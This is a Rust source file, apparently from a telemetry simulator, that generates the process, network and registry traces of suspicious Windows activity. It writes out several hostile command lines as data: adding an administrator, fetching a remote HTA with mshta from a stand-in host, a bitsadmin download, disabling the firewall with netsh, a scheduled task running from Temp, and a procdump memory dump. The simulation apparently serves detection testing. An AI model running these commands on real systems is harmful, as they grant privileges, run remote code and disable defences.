//! Oddities at people's screens.

use std::sync::Arc;

use crate::activity::desktop::{favourite_browser, home, open};
use crate::clock::{MILLI, MINUTE, SECOND};
use crate::device::{Device, Start};
use crate::oddity::Oddity;
use crate::process::Process;
use crate::software::{Binary, apps, windows};

/// A prompt that the owner, or a helpful administrator, opens from the shell.
fn prompt(device: &mut Device, at: i64) -> Option<Arc<Process>> {
    device.windows(at)?;
    let shell = Arc::clone(&device.desktop.as_ref()?.shell);
    Some(run(device, at, &windows::CMD, &shell, "\"C:\\Windows\\system32\\cmd.exe\" ", 5 * MINUTE))
}

fn run(
    device: &mut Device,
    at: i64,
    binary: &'static Binary,
    parent: &Arc<Process>,
    line: &str,
    lifetime: i64,
) -> Arc<Process> {
    device.start(Start {
        at,
        binary,
        image: None,
        parent,
        command_line: line.to_owned(),
        session: &parent.session,
        integrity: "High",
        lifetime,
    })
}

/// One command with its traces.
pub(super) fn by_hand(device: &mut Device, at: i64, oddity: Oddity) {
    let Some(prompt) = prompt(device, at) else { return };
    let Some(desktop) = device.desktop.clone() else { return };
    let home = home(&desktop);
    let later = at + 9 * SECOND;
    match oddity {
        Oddity::NewAdministrator => {
            let account = Arc::clone(&prompt.session.account);
            let line = format!("net localgroup Administrators {} /add", account.qualified);
            let net = run(device, later, &windows::NET, &prompt, &line, SECOND);
            let line = format!(
                "C:\\Windows\\system32\\net1 localgroup Administrators {} /add",
                account.qualified
            );
            run(device, later + 40 * MILLI, &windows::NET1, &net, &line, 600 * MILLI);
            device.administrator_added(later + 300 * MILLI, &prompt.session, &account);
        }
        Oddity::BitsDownload => {
            let target = format!(r"{home}\Downloads\fonts.zip");
            let line = format!(
                "bitsadmin /transfer fonts /download /priority normal https://www.toolyard.example/fonts.zip {target}"
            );
            let tool = run(device, later, &windows::BITSADMIN, &prompt, &line, 8 * SECOND);
            device.visit(later + SECOND, &tool, "www.toolyard.example", 443);
            device.file_created(later + 6 * SECOND, &tool, &target);
        }
        Oddity::HtmlApplication => {
            let line = "mshta.exe http://www.toolyard.example/help/labels.hta";
            let tool = run(device, later, &windows::MSHTA, &prompt, line, 40 * SECOND);
            device.visit(later + 500 * MILLI, &tool, "www.toolyard.example", 80);
        }
        Oddity::FirewallOff => {
            let line = "netsh advfirewall set allprofiles state off";
            let tool = run(device, later, &windows::NETSH, &prompt, line, 2 * SECOND);
            let value = r"HKLM\System\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy\StandardProfile\EnableFirewall";
            device.registry_value(later + 400 * MILLI, &tool, value, "DWORD (0x00000000)");
        }
        Oddity::TaskInUserFolder => {
            let program = format!(r"{home}\AppData\Local\Temp\reminder.exe");
            let line = format!("schtasks /create /sc daily /tn Reminder /tr {program} /st 09:00");
            let tool = run(device, later, &windows::SCHTASKS, &prompt, &line, SECOND);
            device.task_created(later + 200 * MILLI, &tool, r"\Reminder", &program);
        }
        _ => {
            let line =
                format!(r"procdump64.exe -accepteula -ma EXCEL.EXE {home}\Desktop\excel.dmp");
            let tool = run(device, later, &apps::PROCDUMP, &prompt, &line, 12 * SECOND);
            device.file_created(later + 4 * SECOND, &tool, &format!(r"{home}\Desktop\excel.dmp"));
        }
    }
}

/// A download that the antivirus does not like.
pub(super) fn unwanted_software(device: &mut Device, at: i64) {
    if device.windows(at).is_none() {
        return;
    }
    let Some(desktop) = device.desktop.clone() else { return };
    let binary = favourite_browser(device);
    let Some(browser) = open(device, binary, at, "") else { return };
    let path = format!(r"{}\Downloads\pdf-converter-setup.exe", home(&desktop));
    device.visit(at + SECOND, &browser, "media.coursewright.example", 443);
    device.file_created(at + 4 * SECOND, &browser, &path);
    let url = "https://media.coursewright.example/pdf-converter-setup.exe";
    device.zone_marked(at + 4 * SECOND + 6 * MILLI, &browser, &path, url);
    let threat = "PUABundler:Win32/SampleBundle";
    device.malware_found(at + 6 * SECOND, threat, &path, &browser.image);
}
